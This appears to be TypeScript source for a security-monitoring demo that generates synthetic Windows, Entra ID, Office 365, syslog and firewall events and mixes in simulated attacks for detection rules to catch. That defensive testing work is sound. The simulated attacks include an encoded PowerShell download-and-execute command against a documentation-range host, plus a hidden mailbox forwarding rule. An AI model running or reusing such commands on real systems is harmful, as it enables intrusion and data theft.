// Realistic events for the demo's customers, made per customer from a small fictional estate
// (Windows hosts and accounts, Linux servers, a firewall, Entra ID users, mailboxes), and the
// attacks mixed into them, each shaped to be caught by a template the demo enables.
// Pure functions of a random source, so tests can make them repeatable.

export type Random = () => number;

/** A small deterministic generator (mulberry32), for repeatable tests. */
export function seededRandom(seed: number): Random {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: Random, list: readonly T[]): T => list[Math.floor(r() * list.length)]!;
const int = (r: Random, min: number, max: number) => min + Math.floor(r() * (max - min + 1));

const FIRST = ['alice', 'bruno', 'chen', 'dana', 'emeka', 'fatima', 'gus', 'hana', 'ivan', 'jade', 'kofi', 'lena', 'mateo', 'nora', 'omar', 'priya'];
const LAST = ['smith', 'meyer', 'wong', 'garcia', 'okafor', 'haddad', 'novak', 'sato', 'petrov', 'brown', 'mensah', 'schulz', 'rossi', 'lund', 'farah', 'iyer'];
/** Addresses of the documentation ranges (RFC 5737): outside attackers. */
const ATTACKER_IPS = ['203.0.113.17', '203.0.113.54', '198.51.100.23', '198.51.100.77', '192.0.2.145'];
/** Password sprays come from addresses of their own: a spray and a brute force from one address would read as neither. */
const SPRAY_IPS = ['203.0.113.201', '198.51.100.202', '192.0.2.203'];
const COUNTRIES = ['DE', 'NL', 'FR', 'GB', 'US'];
const APPS = ['Office 365 Exchange Online', 'Microsoft Teams', 'Office 365 SharePoint Online', 'Azure Portal', 'Microsoft Graph'];
const PROCESSES = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ipconfig /all'],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\todo.txt'],
] as const;

/** One customer's estate: names derived from its domain, so every customer looks its own. */
export interface Estate {
  /** NetBIOS-style domain, e.g. FABRIKAM. */
  netbios: string;
  /** Entra ID / mail domain, e.g. fabrikam.example. */
  domain: string;
  /** AD DNS suffix, e.g. fabrikam.local. */
  adDomain: string;
  users: string[];
  windowsHosts: string[];
  domainController: string;
  linuxHosts: string[];
  firewall: string;
  /** The customer's own address range (10.x.y.0/24). */
  subnet: string;
}

export function estateOf(domain: string, index: number): Estate {
  const label = domain.split('.')[0]!.toLowerCase();
  const users = FIRST.map((f, i) => `${f}.${LAST[(i + index * 3) % LAST.length]}`);
  return {
    netbios: label.toUpperCase().slice(0, 15),
    domain,
    adDomain: `${label}.local`,
    users,
    windowsHosts: Array.from({ length: 8 }, (_, i) => `ws-${String(101 + i + index * 20)}.${label}.local`),
    domainController: `dc01.${label}.local`,
    linuxHosts: [`web01.${label}.local`, `web02.${label}.local`, `db01.${label}.local`],
    firewall: `fw-edge-01.${label}.local`,
    subnet: `10.${20 + index}.${10 + index}`,
  };
}

const localIp = (r: Random, e: Estate) => `${e.subnet}.${int(r, 10, 250)}`;

// ---- Windows security events (SecurityEvent, through the Logs Ingestion API) ----

function windowsEvent(e: Estate, fields: Record<string, unknown>): Record<string, unknown> {
  return { TimeGenerated: new Date().toISOString(), EventSourceName: 'Microsoft-Windows-Security-Auditing', Channel: 'Security', Level: '8', Type: 'SecurityEvent', ...fields, SourceSystem: 'OpsManager' };
}

export function benignWindowsEvents(r: Random, e: Estate, count: number): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const user = pick(r, e.users);
    const host = pick(r, e.windowsHosts);
    const roll = r();
    if (roll < 0.45) {
      out.push(windowsEvent(e, {
        Computer: host, EventID: 4624, Activity: '4624 - An account was successfully logged on.', Account: `${e.netbios}\\${user}`, AccountType: 'User',
        TargetAccount: `${e.netbios}\\${user}`, TargetUserName: user, TargetDomainName: e.netbios, LogonType: pick(r, [2, 3, 3, 10, 11]),
        LogonProcessName: 'User32', AuthenticationPackageName: 'Negotiate', IpAddress: localIp(r, e), WorkstationName: host.split('.')[0]!.toUpperCase(),
      }));
    } else if (roll < 0.65) {
      out.push(windowsEvent(e, {
        Computer: host, EventID: 4634, Activity: '4634 - An account was logged off.', Account: `${e.netbios}\\${user}`, AccountType: 'User',
        TargetAccount: `${e.netbios}\\${user}`, TargetUserName: user, TargetDomainName: e.netbios, LogonType: 3,
      }));
    } else if (roll < 0.9) {
      const [image, commandLine] = pick(r, PROCESSES);
      out.push(windowsEvent(e, {
        Computer: host, EventID: 4688, Activity: '4688 - A new process has been created.', Account: `${e.netbios}\\${user}`, AccountType: 'User',
        SubjectAccount: `${e.netbios}\\${user}`, NewProcessName: image, CommandLine: commandLine, ParentProcessName: 'C:\\Windows\\explorer.exe',
        Process: image.split('\\').at(-1),
      }));
    } else {
      // A mistyped password now and then: noise the brute-force rule must not fire on.
      out.push(failedLogon(e, host, user, localIp(r, e)));
    }
  }
  return out;
}

function failedLogon(e: Estate, host: string, user: string, ip: string): Record<string, unknown> {
  return windowsEvent(e, {
    Computer: host, EventID: 4625, Activity: '4625 - An account failed to log on.', Account: `${e.netbios}\\${user}`, AccountType: 'User',
    TargetAccount: `${e.netbios}\\${user}`, TargetUserName: user, TargetDomainName: e.netbios, LogonType: 3, Status: '0xc000006d', SubStatus: '0xc000006a',
    IpAddress: ip, LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM', WorkstationName: '-',
  });
}

// ---- Entra ID sign-ins (SigninLogs) ----

function signIn(r: Random, e: Estate, user: string, ip: string, resultType: string, country: string, app = pick(r, APPS)): Record<string, unknown> {
  const id = crypto.randomUUID();
  return {
    TimeGenerated: new Date().toISOString(), Id: id, CorrelationId: crypto.randomUUID(), OperationName: 'Sign-in activity', Category: 'SignInLogs',
    UserPrincipalName: `${user}@${e.domain}`, UserDisplayName: user.split('.').map((p) => p[0]!.toUpperCase() + p.slice(1)).join(' '),
    AppDisplayName: app, IPAddress: ip, ResultType: resultType, ResultDescription: resultType === '0' ? '' : resultType === '50126' ? 'Invalid username or password.' : 'Sign-in was blocked',
    ClientAppUsed: 'Browser', IsInteractive: true, Location: country, LocationDetails: { countryOrRegion: country, city: country === 'DE' ? 'Berlin' : 'Amsterdam' },
    Status: { errorCode: Number(resultType) }, DeviceDetail: { operatingSystem: pick(r, ['Windows 11', 'macOS', 'iOS 18']), browser: pick(r, ['Edge 131', 'Chrome 131', 'Safari 18']) },
    ConditionalAccessStatus: 'success', RiskLevelDuringSignIn: 'none', Type: 'SigninLogs',
  };
}

export function benignSignIns(r: Random, e: Estate, count: number): Record<string, unknown>[] {
  return Array.from({ length: count }, () => signIn(r, e, pick(r, e.users), `84.${int(r, 10, 250)}.${int(r, 0, 255)}.${int(r, 1, 254)}`, r() < 0.93 ? '0' : '50126', pick(r, COUNTRIES.slice(0, 2))));
}

// ---- Office 365 activity (OfficeActivity) ----

export function benignOfficeActivity(r: Random, e: Estate, count: number): Record<string, unknown>[] {
  const label = e.domain.split('.')[0];
  return Array.from({ length: count }, () => {
    const user = `${pick(r, e.users)}@${e.domain}`;
    const file = `${pick(r, ['Budget', 'Roadmap', 'Minutes', 'Invoice', 'Contract'])}-${int(r, 1, 40)}.${pick(r, ['docx', 'xlsx', 'pptx', 'pdf'])}`;
    const roll = r();
    const base = { TimeGenerated: new Date().toISOString(), UserId: user, UserType: 'Regular', ClientIP: `84.${int(r, 10, 250)}.${int(r, 0, 255)}.${int(r, 1, 254)}`, OrganizationName: `${label}.onmicrosoft.com`, Type: 'OfficeActivity' };
    if (roll < 0.5) {
      return { ...base, OfficeWorkload: 'SharePoint', RecordType: 'SharePointFileOperation', Operation: pick(r, ['FileAccessed', 'FileModified', 'FileDownloaded']),
        OfficeObjectId: `https://${label}.sharepoint.com/sites/team/Shared Documents/${file}`, Site_Url: `https://${label}.sharepoint.com/sites/team/`, SourceFileName: file };
    }
    if (roll < 0.85) {
      return { ...base, OfficeWorkload: 'Exchange', RecordType: 'ExchangeItem', Operation: pick(r, ['Send', 'MailItemsAccessed', 'MoveToDeletedItems']), OfficeObjectId: user, MailboxOwnerUPN: user, ResultStatus: 'Succeeded' };
    }
    return { ...base, OfficeWorkload: 'MicrosoftTeams', RecordType: 'MicrosoftTeams', Operation: pick(r, ['MessageSent', 'MeetingParticipantDetail', 'ChatCreated']), OfficeObjectId: crypto.randomUUID() };
  });
}

// ---- Linux syslog (RFC 5424 over UDP to the Syslog connector) ----

function syslog5424(host: string, app: string, pid: number, severity: number, facility: number, message: string): string {
  return `<${facility * 8 + severity}>1 ${new Date().toISOString()} ${host.split('.')[0]} ${app} ${pid} - - ${message}`;
}

export function benignSyslog(r: Random, e: Estate, count: number): string[] {
  return Array.from({ length: count }, () => {
    const host = pick(r, e.linuxHosts);
    const roll = r();
    if (roll < 0.35) return syslog5424(host, 'sshd', int(r, 1000, 30000), 6, 10, `Accepted publickey for deploy from ${localIp(r, e)} port ${int(r, 40000, 60000)} ssh2: ED25519 SHA256:q4Zr2xQ`);
    if (roll < 0.55) return syslog5424(host, 'CRON', int(r, 1000, 30000), 6, 9, `(root) CMD (/usr/local/bin/backup.sh --incremental)`);
    if (roll < 0.75) return syslog5424(host, 'systemd', 1, 6, 3, `Started ${pick(r, ['nginx.service', 'postgresql.service', 'logrotate.service', 'apt-daily.service'])}.`);
    if (roll < 0.9) return syslog5424(host, 'sudo', int(r, 1000, 30000), 5, 10, `  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx`);
    return syslog5424(host, 'kernel', 0, 4, 0, `[UFW BLOCK] IN=eth0 OUT= SRC=${pick(r, ATTACKER_IPS)} DST=${localIp(r, e)} PROTO=TCP DPT=23`);
  });
}

// ---- Firewall CEF (RFC 3164-framed CEF over TCP to the CEF connector) ----

function cef(e: Estate, src: string, dst: string, port: number, action: string, r: Random): string {
  const ts = new Date().toUTCString().slice(5, 25).replace(/^(\d\d) (\w\w\w) (\d{4}) /, '$2 $1 ');
  const ext = `src=${src} dst=${dst} spt=${int(r, 1024, 65535)} dpt=${port} proto=TCP act=${action} deviceInboundInterface=ethernet1/1 cs1Label=Rule cs1=${action === 'allow' ? 'allow-outbound' : 'deny-inbound'} cnt=1`;
  return `<134>${ts} ${e.firewall.split('.')[0]} CEF:0|Palo Alto Networks|PAN-OS|10.2.4|TRAFFIC|end|3|${ext}`;
}

export function benignFirewall(r: Random, e: Estate, count: number): string[] {
  return Array.from({ length: count }, () => r() < 0.8
    ? cef(e, localIp(r, e), `${int(r, 13, 52)}.${int(r, 0, 255)}.${int(r, 0, 255)}.${int(r, 1, 254)}`, pick(r, [443, 443, 443, 80, 53, 123]), 'allow', r)
    : cef(e, pick(r, ATTACKER_IPS), `${e.subnet}.5`, pick(r, [22, 23, 445, 3389, 1433]), 'deny', r));
}

// ---- Attacks ----

/** What one attack sends, by path; `expect` names the template (display name) that catches it. */
export interface Attack {
  name: string;
  expect: string;
  windows?: Record<string, unknown>[];
  signIns?: Record<string, unknown>[];
  office?: Record<string, unknown>[];
  syslog?: string[];
  firewall?: string[];
  /** An Azure role assignment made and removed again through ARM (the AzureActivity connector copies both). */
  roleAssignment?: true;
}

export const ATTACKS: ((r: Random, e: Estate) => Attack)[] = [
  // Near-real-time ones first: the first wave gives incidents within moments of starting.
  (r, e) => {
    const memberSid = `S-1-5-21-3623811015-3361044348-30300820-${int(r, 1100, 1999)}`;
    return { name: 'account added to Domain Admins', expect: 'Member added to a privileged Windows group', windows: [windowsEvent(e, {
      Computer: e.domainController, EventID: 4728, Activity: '4728 - A member was added to a security-enabled global group.', TargetSid: 'S-1-5-21-3623811015-3361044348-30300820-512',
      TargetUserName: 'Domain Admins', TargetAccount: `${e.netbios}\\Domain Admins`, MemberName: `CN=svc-backup2,OU=Service Accounts,DC=${e.adDomain.split('.').join(',DC=')}`, MemberSid: memberSid,
      SubjectAccount: `${e.netbios}\\${pick(r, e.users)}`, Account: `${e.netbios}\\${pick(r, e.users)}`,
    })] };
  },
  (r, e) => ({ name: 'Security log cleared', expect: 'Windows Security event log cleared', windows: [windowsEvent(e, {
    Computer: pick(r, e.windowsHosts), EventID: 1102, Activity: '1102 - The audit log was cleared.', SubjectAccount: `${e.netbios}\\${pick(r, e.users)}`, Account: `${e.netbios}\\${pick(r, e.users)}`,
  })] }),
  (r, e) => {
    const user = pick(r, e.users);
    const ip = pick(r, ATTACKER_IPS);
    return { name: `brute force against ${user}`, expect: 'Brute force against a Windows account', windows: Array.from({ length: 25 }, () => failedLogon(e, e.domainController, user, ip)) };
  },
  (r, e) => {
    const ip = pick(r, SPRAY_IPS);
    return { name: `password spray from ${ip}`, expect: 'Password spray against Windows accounts', windows: e.users.slice(0, 12).map((u) => failedLogon(e, pick(r, e.windowsHosts), u, ip)) };
  },
  (r, e) => {
    const payload = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/a.ps1")', 'utf16le').toString('base64');
    const user = pick(r, e.users);
    return { name: 'encoded PowerShell', expect: 'PowerShell started with an encoded command', windows: [windowsEvent(e, {
      Computer: pick(r, e.windowsHosts), EventID: 4688, Activity: '4688 - A new process has been created.', Account: `${e.netbios}\\${user}`, SubjectAccount: `${e.netbios}\\${user}`,
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: `powershell.exe -NoP -W Hidden -enc ${payload}`, ParentProcessName: 'C:\\Windows\\System32\\wscript.exe',
    })] };
  },
  (r, e) => {
    const host = pick(r, e.linuxHosts);
    const ip = pick(r, ATTACKER_IPS);
    return { name: `SSH brute force on ${host}`, expect: 'SSH brute force against a Linux host', syslog: Array.from({ length: 30 }, (_, i) => syslog5424(host, 'sshd', 20000 + i, 6, 10, i % 2 === 0
      ? `Failed password for invalid user ${pick(r, ['admin', 'oracle', 'test', 'ubuntu', 'pi'])} from ${ip} port ${int(r, 30000, 65000)} ssh2`
      : `Failed password for root from ${ip} port ${int(r, 30000, 65000)} ssh2`)) };
  },
  (r, e) => {
    const ip = pick(r, ATTACKER_IPS);
    const target = `${e.subnet}.5`;
    return { name: `port scan from ${ip}`, expect: 'Port scan seen by a firewall', firewall: Array.from({ length: 70 }, (_, i) => cef(e, ip, target, 1 + i * 29, i % 4 === 0 ? 'allow' : 'deny', r)) };
  },
  (r, e) => {
    const ip = pick(r, ATTACKER_IPS);
    return { name: `Entra ID password spray from ${ip}`, expect: 'Password spray against Entra ID', signIns: e.users.slice(0, 12).map((u) => signIn(r, e, u, ip, '50126', 'RU', 'Office 365 Exchange Online')) };
  },
  (r, e) => {
    const user = `${pick(r, e.users)}@${e.domain}`;
    return { name: `mail forwarding on ${user}`, expect: 'Mail forwarding set on a mailbox', office: [{
      TimeGenerated: new Date().toISOString(), OfficeWorkload: 'Exchange', RecordType: 'ExchangeAdmin', Operation: 'New-InboxRule', UserId: user, OfficeObjectId: user,
      ClientIP: pick(r, ATTACKER_IPS), ResultStatus: 'True', Type: 'OfficeActivity',
      Parameters: JSON.stringify([{ Name: 'Name', Value: '.' }, { Name: 'ForwardTo', Value: 'invoices@proton-mail.example' }, { Name: 'MarkAsRead', Value: 'True' }, { Name: 'StopProcessingRules', Value: 'True' }]),
    }] };
  },
  () => ({ name: 'Owner role assigned', expect: 'Azure role assignment created', roleAssignment: true }),
];
